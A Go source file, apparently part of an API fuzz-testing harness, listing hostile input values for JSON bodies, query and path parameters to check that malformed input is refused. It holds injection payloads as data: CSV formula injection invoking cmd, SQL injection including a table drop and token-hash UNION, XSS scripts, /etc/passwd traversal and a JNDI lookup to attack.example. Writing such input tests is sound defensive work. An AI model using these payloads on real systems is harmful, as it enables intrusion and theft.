package main

import (
	"strings"
)

// hostile is one hostile value, as raw JSON so that what an encoder would refuse (invalid
// UTF-8, NaN) can be sent.
type hostile struct {
	name  string
	raw   string
	class string // classControl, classHuge, or "" for the rest
	// badJSON marks a value that makes the whole body invalid JSON: the error names "body".
	badJSON bool
}

const (
	classControl = "control" // control characters other than tab, newline and CR LF: must be refused
	classHuge    = "huge"    // a number no field may hold: must be refused
)

func str(name, raw string) hostile { return hostile{name: name, raw: raw} }

// Hostile strings: control characters, huge and odd text, formula characters for CSV, SQL and
// HTML metacharacters, invalid UTF-8.
var stringValues = []hostile{
	{name: "NUL", raw: `"\u0000"`, class: classControl},
	{name: "NUL inside", raw: `"Zo\u0000e"`, class: classControl},
	{name: "C0 controls", raw: `"a\u0001\u0007\u001b[31mb"`, class: classControl},
	// CR LF is how browsers send a newline: sent, but not judged a control character.
	str("CR LF injection", `"line\r\nX-Injected: 1"`),
	{name: "unit separator", raw: `"a\u001fb"`, class: classControl},
	{name: "DEL", raw: `"a\u007fb"`, class: classControl},
	str("empty", `""`),
	str("spaces", `"   "`),
	str("5,000 characters", `"`+strings.Repeat("x", 5000)+`"`),
	str("70,000 characters", `"`+strings.Repeat("é", 70000)+`"`),
	str("right-to-left override", `"\u202egnp.exe"`),
	str("byte order mark", `"\ufeffAmy"`),
	str("zero-width joiners", `"`+strings.Repeat("👩‍👩‍👧‍👦", 60)+`"`),
	str("lone surrogate", `"\ud800"`),
	str("invalid UTF-8", "\"\xff\xfe\xc3(\""),
	str("overlong UTF-8", "\"\xc0\xaf\xe0\x80\xaf\""),
	str("formula =", `"=cmd|' /C calc'!A0"`),
	str("formula +", `"+1+1"`),
	str("formula -", `"-2+3"`),
	str("formula @", `"@SUM(A1:A2)"`),
	str("formula tab", `"\t=1+1"`),
	str("SQL quote", `"' OR '1'='1"`),
	str("SQL drop", `"'; DROP TABLE children; --"`),
	str("SQL union", `"\\' UNION SELECT hash FROM tokens --"`),
	str("SQL like", `"%' AND 1=1 --"`),
	str("HTML script", `"<script>alert(1)</script>"`),
	str("HTML attribute", `"\"><img src=x onerror=alert(1)>"`),
	str("template", `"{{.}}{{template \"x\"}}"`),
	str("path", `"../../../etc/passwd"`),
	str("format verbs", `"%s%s%n%x"`),
	str("JNDI", `"${jndi:ldap://attack.example/a}"`),
}

// Hostile numbers.
var numberValues = []hostile{
	{name: "1e308", raw: `1e308`, class: classHuge},
	{name: "-1e308", raw: `-1e308`, class: classHuge},
	str("1e309", `1e309`),
	{name: "NaN", raw: `NaN`, badJSON: true},
	{name: "Infinity", raw: `Infinity`, badJSON: true},
	str("-1", `-1`),
	str("0", `0`),
	str("-0", `-0`),
	str("0.5", `0.5`),
	str("1e-400", `1e-400`),
	str("2^63-1", `9223372036854775807`),
	str("2^63", `9223372036854775808`),
	str("-2^63-1", `-9223372036854775809`),
	str("2^31", `2147483648`),
	str("many digits", strings.Repeat("9", 400)),
}

// Values of the wrong type, or shape, for any field.
var typeValues = []hostile{
	str("null", `null`),
	str("true", `true`),
	str("number", `12`),
	str("string", `"12"`),
	str("object", `{"attack_nested":{"b":1}}`),
	str("empty list", `[]`),
	str("list", `[1,"a",null]`),
	str("list of 100,000", "["+strings.TrimSuffix(strings.Repeat("1,", 100000), ",")+"]"),
	str("500 deep", strings.Repeat("[", 500)+strings.Repeat("]", 500)),
	{name: "10,001 deep", raw: strings.Repeat("[", 10001) + strings.Repeat("]", 10001), badJSON: true},
}

// valuesFor lists the hostile values of a field of type typ; short keeps a few of each kind (for
// a quick run), costly fewer still, and only values no field may hold (for routes that do real
// work when a value is accepted).
func valuesFor(typ string, short, costly bool) []hostile {
	var vs []hostile
	switch typ {
	case "string":
		vs = append(vs, stringValues...)
		vs = append(vs, numberValues[0], numberValues[3])
	case "integer", "number":
		vs = append(vs, numberValues...)
		vs = append(vs, stringValues[0], stringValues[8])
	case "boolean":
		vs = append(vs, str("string true", `"true"`), str("1", `1`), stringValues[0])
	}
	vs = append(vs, typeValues...)
	if !short && !costly {
		return vs
	}
	var out []hostile
	keep := map[string]bool{"NUL": true, "C0 controls": true, "70,000 characters": true, "invalid UTF-8": true, "formula =": true,
		"SQL quote": true, "1e308": true, "NaN": true, "-1": true, "2^63": true, "object": true, "10,001 deep": true, "null": true}
	if costly {
		keep = map[string]bool{"NUL": true, "70,000 characters": true, "1e308": true, "NaN": true, "object": true, "10,001 deep": true}
	}
	for _, v := range vs {
		if keep[v.name] {
			out = append(out, v)
		}
	}
	return out
}

// bodyCases are whole bodies that are wrong: every route with a body gets them.
var bodyCases = []struct {
	name, body, contentType string
	badJSON                 bool
}{
	{"empty", "", "", true},
	{"null", "null", "", false},
	{"list", "[]", "", false},
	{"string", `"x"`, "", false},
	{"truncated", `{"a":`, "", true},
	{"two objects", `{}{}`, "", true},
	{"duplicate keys", `{"version":1,"version":"x"}`, "", false},
	{"unknown field", `{"attack_unknown":1}`, "", false},
	{"10,001 deep", strings.Repeat(`{"a":`, 10001) + "1" + strings.Repeat("}", 10001), "", true},
	{"byte order mark", "\ufeff{}", "", true},
	{"NUL byte", "{\x00}", "", true},
	{"text/plain", `{}`, "text/plain", false},
	{"XML", `<child/>`, "application/xml", false},
	{"bad media type", `{}`, "application/json; charset=\"", false},
	{"UTF-16", "\xff\xfe{\x00}\x00", "application/json; charset=utf-16", true},
	{"2 MiB", `{"attack":"` + strings.Repeat("a", 2<<20) + `"}`, "", false},
}

// queryValues are hostile values of query parameters, already escaped for a URL.
var queryValues = []hostile{
	{name: "NUL", raw: "%00", class: classControl},
	{name: "NUL inside", raw: "a%00b", class: classControl},
	{name: "C0 controls", raw: "%01%1b%7f", class: classControl},
	str("CR LF", "a%0d%0aX-Injected:%201"),
	str("invalid UTF-8", "%ff%fe"),
	str("-1", "-1"),
	str("0", "0"),
	str("1e308", "1e308"),
	str("NaN", "NaN"),
	str("Inf", "Inf"),
	str("2^63", "9223372036854775808"),
	str("5,000 characters", strings.Repeat("a", 5000)),
	str("SQL", "%27%20OR%20%271%27%3D%271"),
	str("HTML", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
	str("path", "..%2F..%2Fetc%2Fpasswd"),
	str("LIKE wildcards", "%25%25_"),
	str("right-to-left override", "%E2%80%AE"),
	str("empty", ""),
	str("comma list", "1,2,3"),
	str("near out of range", "91,181"),
}

// pathValues are hostile values of path parameters.
var pathValues = []hostile{
	str("0", "0"),
	str("-1", "-1"),
	str("1.5", "1.5"),
	str("word", "abc"),
	str("2^63-1", "9223372036854775807"),
	str("2^63", "9223372036854775808"),
	{name: "NUL", raw: "%00", class: classControl},
	str("dot dot", "%2e%2e"),
	str("encoded slash", "1%2f2"),
	str("5,000 characters", strings.Repeat("9", 5000)),
	str("invalid UTF-8", "%ff"),
	str("leading plus", "+{ID}"), // the route's own record: "+1" would be record 1, someone else's (a token)
	str("hex", "0x10"),
	str("spaces", "%201%20"),
}
